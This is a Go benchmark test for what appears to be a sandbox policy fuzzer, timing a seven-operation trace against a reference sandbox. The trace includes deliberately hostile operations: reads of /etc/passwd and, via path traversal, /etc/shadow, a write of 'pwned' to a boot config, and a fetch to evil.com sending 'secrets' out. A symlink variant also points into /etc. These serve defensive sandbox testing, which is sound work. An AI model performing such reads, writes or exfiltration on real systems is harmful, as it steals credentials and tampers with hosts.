package core_test

import (
	"testing"

	"github.com/sbxfuzz/sbxfuzz/core"
	"github.com/sbxfuzz/sbxfuzz/internal/must"
	"github.com/sbxfuzz/sbxfuzz/internal/refworld"
	"github.com/sbxfuzz/sbxfuzz/scenario"
)

// seedTraceOps are the first seven ops of the SPEC §10 worked trace.
var seedTraceOps = []core.Op{
	{Kind: core.OpRead, Args: []string{"/work/data.txt"}},
	{Kind: core.OpRead, Args: []string{"/etc/passwd"}},
	{Kind: core.OpRead, Args: []string{"/work/../etc/shadow"}},
	{Kind: core.OpWrite, Args: []string{"/work/out/report.txt", "done"}},
	{Kind: core.OpWrite, Args: []string{"/system/boot.cfg", "pwned"}},
	{Kind: core.OpFetch, Args: []string{"api.internal", "/status"}},
	{Kind: core.OpFetch, Args: []string{"evil.com", "/steal?d=secrets"}},
}

// BenchmarkSeedTrace runs the worked trace's first seven ops round-robin on
// one sandbox whose budgets never halt, over a journaling world as the
// harness hands out: the throughput anchor compared with
// ../shared/bench/seed_miniature.py.
func BenchmarkSeedTrace(b *testing.B) { benchSeedTrace(b, nil) }

// BenchmarkSeedTraceLinked is BenchmarkSeedTrace over a world with links
// (none on the trace's paths, so the results are the same): what the
// resolution step of SPEC §13 costs when a world has links to walk.
func BenchmarkSeedTraceLinked(b *testing.B) {
	benchSeedTrace(b, []scenario.Link{{Path: "/work/l", Target: "/etc/passwd"}, {Path: "/work/out/d", Target: "../../etc"}, {Path: "/work/loop", Target: "loop"}})
}

func benchSeedTrace(b *testing.B, links []scenario.Link) {
	g := must.Grant(core.GrantSpec{
		FSRead: []string{"/work/"}, FSWrite: []string{"/work/out/"},
		NetHosts: []string{"api.internal"}, Tools: []string{"summarize"},
		Budgets: core.Budgets{MaxOps: 1 << 62, MaxWall: 1 << 62, MaxOutputBytes: 1 << 62},
	})
	w := refworld.New(scenario.WorldSpec{ // journaling, as under the harness
		Files:  []scenario.File{{Path: "/work/data.txt", Data: "hello"}},
		Routes: []scenario.Route{{Host: "api.internal", Path: "/status", Body: "ok"}},
		Links:  links,
		Clock:  scenario.TickClock{Start: 0, Step: 1},
	})
	s := core.NewReference(g, w)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		k := i % len(seedTraceOps)
		if r := s.Run(seedTraceOps[k]); r.Kind == core.Invalid {
			b.Fatal("no verdict")
		}
		if k == 0 && w.JournalLen() > 4096 {
			w.ResetJournal()
		}
	}
}
